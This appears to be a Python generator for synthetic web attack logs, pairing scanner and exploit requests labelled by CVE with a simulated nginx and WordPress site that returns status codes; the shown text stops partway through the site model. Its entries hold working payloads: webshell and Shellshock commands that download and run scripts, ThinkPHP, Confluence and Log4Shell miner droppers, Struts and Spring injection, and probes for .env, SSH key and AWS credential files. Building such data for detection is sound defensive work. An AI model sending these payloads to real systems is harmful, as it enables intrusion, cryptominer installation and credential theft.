T('php-exploit', 'CVE-2023-23752 Joomla config disclosure', 'cms', 2, one('GET', '/api/index.php/v1/config/application?public=true'),
  ua=['chr91', 'go'])
T('php-exploit', 'CVE-2009-1151 phpMyAdmin setup.php sweep', 'pma', 2,
  burst('GET', ['/phpmyadmin/scripts/setup.php', '/pma/scripts/setup.php', '/myadmin/scripts/setup.php',
                '/phpMyAdmin/scripts/setup.php', '/MyAdmin/scripts/setup.php'], 3, 5), ua=['zmeu', 'none'])

# ---- webshell ---------------------------------------------------------------------
SHELLS = ['/alfa.php', '/wso.php', '/wso112233.php', '/shell.php', '/cmd.php', '/x.php', '/1.php', '/ws.php', '/c99.php',
          '/r57.php', '/about.php', '/chosen.php', '/wp-content/plugins/hellopress/wp_filemanager.php',
          '/wp-includes/ID3/about.php', '/wp-admin/css/colors/blue/about.php', '/.well-known/acme-challenge/wso.php',
          '/wp-content/uploads/wso.php']
T('webshell', 'web-shell hunting (known shell file names)', 'shells', 8, burst('GET', SHELLS, 3, 6),
  ua=['chr120', 'chr81l', 'ff115l', 'and10', 'iphone13', 'go', 'none'])
T('webshell', 'web-shell hunting (known shell file names)', 'shells', 8, pick('GET', SHELLS),
  ua=['chr120', 'chr81l', 'ff115l', 'and10', 'go'])
ALFA = ['/ALFA_DATA/alfacgiapi/perl.alfa', '/wp-content/plugins/ALFA_DATA/alfacgiapi/perl.alfa',
        '/wp-admin/ALFA_DATA/alfacgiapi/perl.alfa', '/cgi-bin/ALFA_DATA/alfacgiapi/perl.alfa',
        '/wp-content/uploads/ALFA_DATA/alfacgiapi/perl.alfa']
T('webshell', 'ALFA shell CGI helper (alfacgiapi) hunting', 'shells', 3, burst('GET', ALFA, 2, 4), ua=['chr91', 'chr120'])
T('webshell', 'web-shell command use', 'shells', 1, one('GET', '/shell.php?cmd=id'), ua=['py'])
T('webshell', 'web-shell command use', 'shells', 1,
  one('GET', '/cmd.php?cmd=cd%20/tmp;wget%20http://{ip}/{bin}.sh;sh%20{bin}.sh'), ua=['curl'])
T('webshell', 'web-shell login/use (POST)', 'shells', 2, pick('POST', ['/alfa.php', '/wso.php', '/wp-content/plugins/hellopress/wp_filemanager.php']),
  ua=['chr120', 'ff115l'])
T('webshell', 'ProxyLogon-era ASPX web shell probe', 'aspx', 1, one('GET', '/aspnet_client/system_web/{rnd}.aspx'), ua=['ie6'])
T('webshell', 'CVE-2017-12615 Tomcat PUT JSP upload', 'tomcatput', 1, one('PUT', '/{rnd}.jsp/'), ua=['py'])

# ---- wordpress ------------------------------------------------------------------
T('wordpress', 'WordPress REST user enumeration', 'wpenum', 2, one('GET', '/blog/wp-json/wp/v2/users'), ua=['chr91', 'py'])
T('wordpress', 'WordPress REST user enumeration', 'wpenum', 1, one('GET', '/wp-json/wp/v2/users'), ua=['go'])
T('wordpress', 'WordPress REST user enumeration', 'wpenum', 1, one('GET', '/?rest_route=/wp/v2/users'), ua=['chr120'])
T('wordpress', 'WordPress ?author= user enumeration', 'wpenum', 2,
  lambda r, c: [('GET', '/blog/?author=%d' % i) for i in range(1, r.randint(2, 4) + 1)], ua=['chr80', 'ff115l'])
T('wordpress', 'CVE-2020-25213 WP File Manager connector upload', 'wpfm', 2,
  lambda r, c: [('GET', '/wp-content/plugins/wp-file-manager/readme.txt'),
                ('POST', '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php')], ua=['py', 'chr91'])
T('wordpress', 'CVE-2014-9734 Revolution Slider revslider_show_image', 'wpplug', 1,
  one('GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php'), ua=['chr78'])
T('wordpress', 'CVE-2014-9734 Revolution Slider revslider_show_image', 'wpplug', 1,
  one('GET', '/blog/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php'), ua=['ff47'])
T('wordpress', 'CVE-2020-11738 Duplicator duplicator_download', 'wpplug', 1,
  one('GET', '/blog/wp-admin/admin-ajax.php?action=duplicator_download&file=../../../../../../../../../etc/passwd'), ua=['chr91'])
T('wordpress', 'CVE-2023-6553 Backup Migration backup-heart.php', 'wpplug', 1,
  one('POST', '/wp-content/plugins/backup-backup/includes/backup-heart.php'), ua=['py'])
T('wordpress', 'CVE-2024-27956 WP-Automatic csv.php', 'wpplug', 1, one('POST', '/wp-content/plugins/wp-automatic/inc/csv.php'), ua=['py2'])
T('wordpress', 'WordPress installer hijack (setup-config.php)', 'wpplug', 2, one('GET', '/wp-admin/setup-config.php?step=1'), ua=['chr120', 'go'])
T('wordpress', 'WordPress installer hijack (setup-config.php)', 'wpplug', 1,
  lambda r, c: [('GET', '/wordpress/wp-admin/setup-config.php?step=1'), ('GET', '/wp-admin/install.php'),
                ('GET', '/blog/wp-admin/setup-config.php?step=1')], ua=['chr120'])
T('wordpress', 'WPScan plugin fingerprinting', 'wpplug', 1,
  lambda r, c: [('GET', '/blog/'), ('GET', '/blog/wp-content/plugins/revslider/readme.txt'),
                ('GET', '/blog/wp-content/plugins/wp-file-manager/readme.txt'),
                ('GET', '/blog/wp-content/plugins/backup-backup/readme.txt'),
                ('GET', '/blog/wp-content/plugins/wp-automatic/readme.txt')], ua=['wpscan'])

# ---- credential-stuffing ---------------------------------------------------------
def wplogin(r, c):
    out = [('GET', '/blog/wp-login.php')] if r.random() < 0.5 else []
    return out + [('POST', '/blog/wp-login.php')] * r.randint(2, 5 - len(out) + 1)
T('credential-stuffing', 'WordPress wp-login.php password guessing', 'wpbf', 4, wplogin, ua=['chr80', 'chr91', 'ff115l', 'iphone13'])
T('credential-stuffing', 'WordPress xmlrpc.php system.multicall guessing', 'wpbf', 3,
  lambda r, c: [('POST', '/blog/xmlrpc.php')] * r.randint(2, 5), ua=['chr80', 'none', 'py'])
T('credential-stuffing', 'WordPress xmlrpc.php system.multicall guessing', 'wpbf', 1,
  lambda r, c: [('GET', '/blog/xmlrpc.php'), ('POST', '/blog/xmlrpc.php'), ('POST', '/blog/xmlrpc.php')], ua=['chr80'])
T('credential-stuffing', 'WordPress xmlrpc.php system.multicall guessing', 'wpbf', 2, one('POST', '//xmlrpc.php'), ua=['chr80', 'and10'])
T('credential-stuffing', 'WordPress wp-login.php password guessing', 'wpbf', 2,
  lambda r, c: [('POST', '/wp-login.php')] * r.randint(1, 3), ua=['ff115l', 'chr120'])

# ---- secret-file ----------------------------------------------------------------
ENV = ['/.env', '/laravel/.env', '/backend/.env', '/api/.env', '//.env', '/.env.bak', '/.env.production', '/app/.env',
       '/sendgrid/.env', '/core/.env', '/public/.env', '/.env.save', '/admin/.env', '/.env.local']
T('secret-file', '.env secrets grab', 'env', 11, pick('GET', ENV), ua=['chr81l', 'ff77m', 'go', 'mozlila', 'l9', 'py'])
T('secret-file', '.env secrets grab', 'env', 4, burst('GET', ENV, 3, 6), ua=['chr81l', 'ff77m', 'mozlila', 'go'])
T('secret-file', 'git repository metadata grab', 'env', 3, pick('GET', ['/.git/config', '/.git/HEAD']), ua=['chr99', 'l9', 'go'])
T('secret-file', 'git repository metadata grab', 'env', 1, burst('GET', ['/.git/config', '/.git/HEAD', '/.git/index', '/.git/logs/HEAD'], 3, 4), ua=['chr99'])
T('secret-file', 'AWS credentials file grab', 'env', 1, one('GET', '/.aws/credentials'), ua=['mozlila'])
T('secret-file', 'AWS credentials file grab', 'env', 1, burst('GET', ['/aws.yml', '/config/aws.yml', '/.aws/credentials', '/.env.bak', '/info.php'], 3, 5), ua=['mozlila'])
T('secret-file', 'phpinfo disclosure probe', 'nish', 3, pick('GET', ['/info.php', '/phpinfo.php', '/_profiler/phpinfo']), ua=['mozlila', 'chr81l', 'go'])
T('secret-file', 'phpinfo disclosure probe', 'nish', 1, burst('GET', ['/phpinfo.php', '/info.php', '/php_info.php', '/test.php', '/i.php', '/phpinfo'], 3, 5), ua=['chr81l'])
T('secret-file', 'config / credential file grab', 'env', 14,
  pick('GET', ['/.DS_Store', '/.vscode/sftp.json', '/sftp-config.json', '/docker-compose.yml', '/config.json',
               '/config/secrets.yml', '/.git-credentials', '/actuator/env', '/actuator/heapdump', '/wp-config.php.bak',
               '/.wp-config.php.swp', '/wp-content/debug.log', '/.ssh/id_rsa', '/.htpasswd', '/server-status',
               '/config.php.bak', '/.npmrc', '/.aws/config']),
  ua=['chr81l', 'ff77m', 'go', 'l9', 'py', 'mozlila', 'zgrab'])
T('secret-file', 'database / site backup grab', 'env', 1,
  burst('GET', ['/backup.sql', '/db.sql', '/dump.sql', '/backup.zip', '/www.zip', '/site.tar.gz', '/database.sql'], 4, 6), ua=['go'])

# ---- ssrf-metadata --------------------------------------------------------------
MD = ['http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/',
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://169.254.169.254/latest/meta-data/iam/info']
PARAMS = ['dest', 'file', 'redirect', 'target', 'uri', 'url']
def ec2(r, c, k=1):
    out = []
    for p in r.sample(PARAMS, k):
        v = r.choice(MD)
        out.append(('GET', '/?%s=%s' % (p, v if r.random() < 0.6 else pct(v, safe=''))))
    return out
T('ssrf-metadata', 'EC2 instance-metadata SSRF via query parameter', 'f5ec2', 6, ec2, ua=['chr120', 'chr131m', 'ff115l', 'py'])
T('ssrf-metadata', 'EC2 instance-metadata SSRF via query parameter', 'f5ec2', 2, lambda r, c: ec2(r, c, r.randint(3, 4)), ua=['chr120', 'py'])
T('ssrf-metadata', 'instance metadata through an open proxy (absolute URI)', 'proxy', 2,
  pick('GET', ['http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']),
  ua=['go', 'none'])
T('ssrf-metadata', 'instance metadata path (Host: 169.254.169.254)', 'proxy', 1, one('GET', '/latest/meta-data/iam/security-credentials/'), ua=['go'])

# ---- open-proxy -----------------------------------------------------------------
T('open-proxy', 'CONNECT tunnel check', 'proxy', 2, pick('CONNECT', ['www.google.com:443', 'www.google.com:443', 'api.ipify.org:443']),
  ua=['none', 'go'])
T('open-proxy', 'absolute-URI proxy check', 'proxy', 6,
  pick('GET', ['http://www.baidu.com/cache/global/img/gs.gif', 'http://azenv.net/', 'http://www.google.com/',
               'http://example.com/', 'http://httpbin.org/ip', 'http://ip-api.com/json']),
  ua=['none', 'go', 'ie6', 'chr78'])
T('open-proxy', 'absolute-URI proxy check', 'proxy', 1,
  lambda r, c: [('CONNECT', 'www.google.com:443'), ('GET', 'http://www.baidu.com/cache/global/img/gs.gif'), ('GET', 'http://azenv.net/')],
  ua=['none'])

# ---- traversal ------------------------------------------------------------------
TRAV = [
 ('path traversal to /etc/passwd (raw)', '/../../../../../../../../etc/passwd'),
 ('path traversal to /etc/passwd (%2f)', '/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd'),
 ('CVE-2021-41773 Apache .%2e traversal', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'),
 ('CVE-2021-41773 Apache .%2e traversal', '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
 ('CVE-2021-42013 Apache double-encoded traversal', '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'),
 ('path traversal in file parameter', '/?file=../../../../../../etc/passwd'),
 ('path traversal in page parameter with NUL', '/index.php?page=../../../../../../../../etc/passwd%00'),
 ('CVE-2021-43798 Grafana plugin traversal', '/public/plugins/alertlist/../../../../../../../../etc/passwd'),
 ('CVE-2020-5410 Spring Cloud Config traversal', '/..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development'),
 ('path traversal to win.ini (%5c)', '/static/..%5c..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini'),
 ('path traversal to win.ini in page parameter', '/?page=..%2f..%2f..%2f..%2f..%2fwindows%2fwin.ini'),
 ('path traversal to win.ini in file parameter', '/download.php?file=../../../../../../windows/win.ini'),
 ('path traversal overlong UTF-8', '/..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd'),
 ('path traversal to /etc/passwd (%2e%2e)', '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
 ('path traversal filter bypass ....//', '/....//....//....//....//etc/passwd'),
 ('path traversal double-encoded %252f', '/assets/..%252f..%252f..%252f..%252fetc/passwd'),
 ('path traversal to win.ini (raw)', '/cgi-bin/../../../../../../../../windows/win.ini'),
]
for tech, tgt in TRAV:
    T('traversal', tech, 'trav', 1, one('GET', tgt.replace('{', '{{').replace('}', '}}')), ua=['chr120', 'go', 'py', 'curl', 'ff115l', 'none'])
T('traversal', 'path traversal encoding sweep', 'trav', 2,
  burst('GET', [t.replace('{', '{{').replace('}', '}}') for _, t in TRAV if 'passwd' in t and '?' not in t], 3, 4), ua=['go', 'chr91'])

# ---- miner-dropper --------------------------------------------------------------
T('miner-dropper', 'Kinsing via ThinkPHP invokefunction', 'kinsing', 1,
  one('GET', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=(curl%20-s%20http://{ip}/d.sh||wget%20-q%20-O-%20http://{ip}/d.sh)|bash'),
  ua=['chr78'])
T('miner-dropper', 'Kinsing via ThinkPHP invokefunction', 'kinsing', 1,
  lambda r, c: [('GET', '/index.php?s=%2Findex%2F%5Cthink%5Capp%2Finvokefunction&function=call_user_func_array&vars%5B0%5D=shell_exec&vars%5B1%5D%5B%5D=' +
                 pct('wget -q -O - http://{ip}/tf.sh | sh'.format(**c), safe=''))], ua=['go'])
T('miner-dropper', 'RedTail via CVE-2021-41773 /bin/sh', 'redtail', 2,
  one('POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh'), ua=['none', 'chr120'])
T('miner-dropper', 'RedTail via CVE-2021-42013 /bin/sh', 'redtail', 1,
  one('POST', '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh'), ua=['none'])
T('miner-dropper', 'CVE-2020-14882 WebLogic console ShellSession', 'weblogic', 2,
  one('GET', "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27curl%20http://{ip}/wb.sh%20-o%20/tmp/wb.sh;bash%20/tmp/wb.sh%27);%22)"),
  ua=['chr91', 'py'])
T('miner-dropper', 'CVE-2022-26134 Confluence OGNL miner dropper', 'confluence', 2,
  lambda r, c: [('GET', '/' + pct('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("curl -fsSL http://%s/cf.sh|bash").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}' % c['ip'], safe='') + '/')],
  ua=['chr91', 'go'])
T('miner-dropper', 'CVE-2024-36401 GeoServer valueReference exec', 'geoserver', 2,
  lambda r, c: [('GET', '/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=' +
                 pct("exec(java.lang.Runtime.getRuntime(),'curl -s http://%s/geo.sh -o /tmp/geo.sh')" % c['ip'], safe="(),'"))],
  ua=['chr120', 'py'])

# ---- log4shell ------------------------------------------------------------------
T('log4shell', 'CVE-2021-44228 JNDI in User-Agent', 'log4j', 3, lambda r, c: [('GET', '/', None, '${jndi:ldap://%s:1389/Exploit}' % c['ip'])])
T('log4shell', 'CVE-2021-44228 JNDI in User-Agent (Base64 command)', 'log4j', 1,
  lambda r, c: [('GET', '/', None, '${jndi:ldap://%s:1389/Basic/Command/Base64/%s}' % (c['ip'], b64('(curl -s %s:5874/ldr.sh||wget -q -O- %s:5874/ldr.sh)|bash' % (c['ip'], c['ip']))))])
T('log4shell', 'CVE-2021-44228 JNDI with ${hostName} in a parameter', 'log4j', 1,
  lambda r, c: [('GET', '/?x=${jndi:ldap://${hostName}.%s.oast.example/a}' % c['rnd'])])
T('log4shell', 'CVE-2021-44228 ${lower:} obfuscated JNDI in User-Agent', 'log4j', 1,
  lambda r, c: [('GET', '/', None, '${jndi:${lower:l}${lower:d}a${lower:p}://%s:1389/rce}' % c['ip'])])
T('log4shell', 'CVE-2021-44228 ${::-} obfuscated JNDI in Referer', 'log4j', 1,
  lambda r, c: [('GET', '/', None, None, '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s:1099/a}' % c['ip'])])
T('log4shell', 'CVE-2021-44228 percent-encoded JNDI in the path', 'log4j', 1,
  lambda r, c: [('GET', '/' + pct('${jndi:ldap://%s:1389/TomcatBypass/Command/Base64/%s}' % (c['ip'], b64('wget http://%s/l.sh -O- | sh' % c['ip'])), safe=''))],
  ua=['async'])
T('log4shell', 'CVE-2021-44228 JNDI in Solr cores action', 'log4j', 1,
  lambda r, c: [('GET', '/solr/admin/cores?action=${jndi:ldap://%s:1389/a}' % c['ip'])], ua=['async', 'go'])
T('log4shell', 'CVE-2021-44228 JNDI dns callback in User-Agent', 'log4j', 1,
  lambda r, c: [('GET', '/', None, '${jndi:dns://%s.dnslog.example/a}' % c['rnd'])])
T('log4shell', 'CVE-2021-44228 JNDI sprayed in User-Agent, Referer and query', 'log4j', 1,
  lambda r, c: [('GET', '/', None, '${jndi:ldap://%s:1389/a}' % c['ip']),
                ('GET', '/?id=' + pct('${jndi:ldap://%s:1389/a}' % c['ip'], safe=''), None, None, '${jndi:ldap://%s:1389/a}' % c['ip']),
                ('GET', '/search?q=${jndi:ldap://%s:1389/a}' % c['ip'])], ua=['async'])

# ---- java-injection ---------------------------------------------------------------
T('java-injection', 'CVE-2022-22965 Spring4Shell classLoader probe', 'spring', 1, one('GET', '/?class.module.classLoader.URLs%5B0%5D=0'), ua=['py'])
T('java-injection', 'CVE-2022-22965 Spring4Shell AccessLogValve write', 'spring', 1,
  one('GET', '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat='),
  ua=['py2'])
T('java-injection', 'CVE-2022-22947 Spring Cloud Gateway actuator', 'spring', 2, one('GET', '/actuator/gateway/routes'), ua=['chr78'])
T('java-injection', 'CVE-2022-22947 Spring Cloud Gateway actuator', 'spring', 1,
  lambda r, c: [('POST', '/actuator/gateway/routes/hacktest'), ('POST', '/actuator/gateway/refresh'),
                ('GET', '/actuator/gateway/routes/hacktest')], ua=['py'])
T('java-injection', 'CVE-2022-22963 Spring Cloud Function functionRouter', 'spring', 1, one('POST', '/functionRouter'), ua=['py'])
T('java-injection', 'S2-057 Struts2 namespace OGNL', 'struts', 1,
  one('GET', '/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29.getInputStream%28%29%2C%23b%3Dnew%20java.io.InputStreamReader%28%23a%29%2C%23c%3Dnew%20%20java.io.BufferedReader%28%23b%29%2C%23d%3Dnew%20char%5B51020%5D%2C%23c.read%28%23d%29%2C%23sbtest%3D%40org.apache.struts2.ServletActionContext%40getResponse%28%29.getWriter%28%29%2C%23sbtest.println%28%23d%29%2C%23sbtest.close%28%29%29%7D/actionChain1.action'),
  ua=['chr91'])
T('java-injection', 'S2-016 Struts2 redirect: OGNL', 'struts', 1,
  one('GET', '/index.action?redirect:%24%7B%23a%3D%28new%20java.lang.ProcessBuilder%28new%20java.lang.String%5B%5D%7B%27id%27%7D%29%29.start%28%29%2C%23b%3D%23a.getInputStream%28%29%2C%23c%3Dnew%20java.io.InputStreamReader%28%23b%29%2C%23d%3Dnew%20java.io.BufferedReader%28%23c%29%2C%23e%3Dnew%20char%5B50000%5D%2C%23d.read%28%23e%29%2C%23matt%3D%23context.get%28%27com.opensymphony.xwork2.dispatcher.HttpServletResponse%27%29%2C%23matt.getWriter%28%29.println%28%23e%29%2C%23matt.getWriter%28%29.flush%28%29%2C%23matt.getWriter%28%29.close%28%29%7D'),
  ua=['ie6'])
T('java-injection', 'CVE-2022-26134 Confluence OGNL in the path', 'confluence', 2,
  one('GET', '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/'),
  ua=['chr91', 'py'])
T('java-injection', 'CVE-2023-22527 Confluence text-inline.vm', 'confluence', 1, one('POST', '/template/aui/text-inline.vm'), ua=['py'])
T('java-injection', 'CVE-2024-32113 Apache OFBiz ProgramExport', 'ofbiz', 1, one('POST', '/webtools/control/forgotPassword;/ProgramExport'), ua=['chr120'])
T('java-injection', 'CVE-2019-17558 Solr Velocity template', 'solr', 1,
  one('GET', "/solr/demo/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))+%23set($str=$x.class.forName(%27java.lang.String%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()+%23set($out=$ex.getInputStream())"),
  ua=['py'])

# ---- edge-device ----------------------------------------------------------------
T('edge-device', 'CVE-2018-13379 FortiOS SSL-VPN fgt_lang traversal', 'edge', 2,
  one('GET', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'), ua=['chr91', 'curl'])
T('edge-device', 'CVE-2019-11510 Pulse Secure traversal', 'edge', 1,
  one('GET', '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5/guacamole/'), ua=['curl'])
T('edge-device', 'CVE-2019-19781 Citrix ADC vpns traversal', 'edge', 1, one('GET', '/vpn/../vpns/cfg/smb.conf'), ua=['chr91'])
T('edge-device', 'CVE-2019-19781 Citrix ADC vpns traversal', 'edge', 1, one('POST', '/vpns/portal/scripts/newbm.pl'), ua=['py'])
T('edge-device', 'CVE-2023-4966 Citrix Bleed openid-configuration', 'edge', 1, one('GET', '/oauth/idp/.well-known/openid-configuration'), ua=['py'])
T('edge-device', 'CVE-2024-21887 Ivanti Connect Secure license keys-status injection', 'edge', 2,
  one('GET', '/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20http%3A%2F%2F{ip}%2Fiv.sh%7Csh%3B'), ua=['py', 'go'])
T('edge-device', 'CVE-2020-5902 BIG-IP TMUI fileRead', 'edge', 1,
  one('GET', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'), ua=['curl'])
T('edge-device', 'CVE-2022-1388 BIG-IP iControl REST bash', 'edge', 1, one('POST', '/mgmt/tm/util/bash'), ua=['py'])
T('edge-device', 'CVE-2024-0012 PAN-OS ztp_gate auth bypass', 'edge', 1, one('GET', '/php/ztp_gate.php/.js.map'), ua=['go'])
T('edge-device', 'CVE-2020-3452 Cisco ASA translation-table traversal', 'edge', 1,
  one('GET', '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../'), ua=['curl'])
T('edge-device', 'CVE-2023-34362 MOVEit moveitisapi', 'edge', 1, one('POST', '/moveitisapi/moveitisapi.dll?action=m2'), ua=['py'])
T('edge-device', 'CVE-2022-40684 FortiOS admin API auth bypass', 'edge', 1, one('PUT', '/api/v2/cmdb/system/admin/admin'), ua=['py'])

# ---- windows-iis ----------------------------------------------------------------
T('windows-iis', 'CVE-2021-34473 ProxyShell autodiscover', 'exchange', 2,
  one('GET', '/autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com'), ua=['chr91', 'py'])
T('windows-iis', 'CVE-2022-41040 ProxyNotShell autodiscover', 'exchange', 1,
  one('GET', '/autodiscover/autodiscover.json?@test.com/PowerShell/?Email=autodiscover/autodiscover.json%3F@test.com'), ua=['py'])
T('windows-iis', 'CVE-2021-26855 ProxyLogon x.js probe', 'exchange', 1, one('GET', '/owa/auth/x.js'), ua=['chr78'])
T('windows-iis', 'Exchange eDiscovery exporttool probe', 'exchange', 1,
  one('GET', '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application'), ua=['chr91'])
T('windows-iis', 'CVE-2020-0688 Exchange ECP ViewState', 'exchange', 1,
  lambda r, c: [('GET', '/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=' +
                 pct('/wEy' + b64('System.Windows.Data.ObjectDataProvider ' * 2)[:64], safe=''))], ua=['py'])
T('windows-iis', 'CVE-2019-18935 Telerik RAU upload', 'telerik', 1, one('POST', '/Telerik.Web.UI.WebResource.axd?type=rau'), ua=['py'])
T('windows-iis', 'CVE-2017-9248 Telerik DialogHandler', 'telerik', 1, one('GET', '/DesktopModules/Admin/RadEditorProvider/DialogHandler.aspx'), ua=['chr78'])
T('windows-iis', 'CVE-2025-53770 SharePoint ToolShell ToolPane', 'toolshell', 2,
  lambda r, c: [('POST', '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx', None, None, '/_layouts/SignOut.aspx')],
  ua=['ff115l', 'chr120'])
T('windows-iis', 'Nimda IIS root.exe / cmd.exe sequence', 'nimda', 1,
  lambda r, c: [('GET', '/scripts/root.exe?/c+dir'), ('GET', '/MSADC/root.exe?/c+dir'), ('GET', '/c/winnt/system32/cmd.exe?/c+dir'),
                ('GET', '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir'), ('GET', '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir')],
  ua=['none'])
T('windows-iis', 'IIS short-name (tilde) enumeration', 'iis', 1, one('GET', '/*~1*/a.aspx?aspxerrorpath=/'), ua=['chr78'])
T('windows-iis', '.NET diagnostics / web.config grab', 'iis', 1,
  burst('GET', ['/elmah.axd', '/trace.axd', '/web.config', '/Web.config.bak'], 2, 4), ua=['chr91'])

# ---- shellshock -----------------------------------------------------------------
SS = '() { ignored; }; echo Content-Type: text/html; echo ; /bin/cat /etc/passwd'
T('shellshock', 'CVE-2014-6271 Shellshock CGI sweep (Referer)', 'shellshock', 1,
  lambda r, c: [('GET', p, None, UA[u], SS) for p, u in
                zip(r.sample(['/cgi-bin/status', '/cgi-bin/stats', '/cgi-bin/test', '/cgi-bin/status/status.cgi',
                              '/test.cgi', '/debug.cgi', '/cgi-bin/test-cgi'], 5),
                    ['sh41', 'sh44', 'sh36', 'chr70', 'sh41'])])
T('shellshock', 'CVE-2014-6271 Shellshock SonicWall jarrewrite.sh', 'shellshock', 1,
  lambda r, c: [('GET', '/cgi-bin/jarrewrite.sh', None, "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'")])
T('shellshock', 'CVE-2014-6271 Shellshock dropper in User-Agent', 'shellshock', 2,
  lambda r, c: [('GET', r.choice(['/cgi-bin/test.cgi', '/cgi-bin/admin.cgi', '/cgi-mod/index.cgi']), None,
                 '() { :; }; /bin/bash -c "cd /tmp; wget http://%s/bins.sh; chmod 777 bins.sh; sh bins.sh"' % c['ip'])])
T('shellshock', 'CVE-2014-6271 Shellshock in User-Agent and Referer', 'shellshock', 1,
  lambda r, c: [('GET', '/cgi-bin/' + x, None, '() { :;}; echo; /bin/bash -c "expr 299663299665 / 3; echo 333:; uname -a"',
                 '() { :;}; echo; /bin/bash -c "expr 299663299665 / 3; echo 333:; uname -a"') for x in ('bin', 'php', 'login.cgi')])

# ------------------------------------------------------------------ site model
SITE_PAGES = {'/': 14382, '/about/': 9214, '/services/': 11803, '/contact/': 7655, '/search': 6120,
              '/robots.txt': 142, '/sitemap.xml': 2310, '/favicon.ico': 15086}
SITE_ASSETS = {'/assets/css/site.css': 38210, '/assets/js/main.js': 21877, '/img/logo.svg': 4120,
               '/img/hero.webp': 148220, '/img/team.webp': 96540}

def decode_path(p):
    """nginx-like: decode %XX once (invalid -> None), resolve dot segments; None if it climbs above root"""
    out, i = bytearray(), 0
    b = p.encode('utf-8')
    while i < len(b):
        if b[i] == 0x25:
            h = b[i + 1:i + 3]
            try:
                out.append(int(h, 16)); i += 3; continue
            except ValueError:
                return None
        out.append(b[i]); i += 1
    segs = []
    for s in out.decode('latin-1').split('/'):
        if s == '..':
            if not segs:
                return None
            segs.pop()
        elif s not in ('.', ''):
            segs.append(s)
    return '/' + '/'.join(segs) + ('/' if p.endswith('/') and segs else '')

def respond(r, method, target):
    """status and body size a small nginx-served business site (+ WordPress at /blog/) would give"""
    if method == 'CONNECT':
        return 400, 157
    path = target
    if target.startswith('http://') or target.startswith('https://'):
        path = '/' + target.split('/', 3)[3] if target.count('/') >= 3 else '/'
    raw = path.split('?')[0]
    norm = decode_path(raw)
    if norm is None:
        return 400, 157
    if method in ('PUT', 'DELETE'):
        return 405, 157
    if any(s.startswith('.') and s != '.well-known' for s in norm.split('/')):
        return 403, 153            # location ~ /\. { deny all; }
    if norm.startswith('/blog/') or norm == '/blog':
        q = target.split('?', 1)[1] if '?' in target else ''
        if norm == '/blog/wp-login.php':
            return 200, r.randint(4880, 5120)
        if norm == '/blog/xmlrpc.php':
            return (200, r.randint(403, 470)) if method == 'POST' else (405, 42)
        if norm == '/blog/wp-json/wp/v2/users':
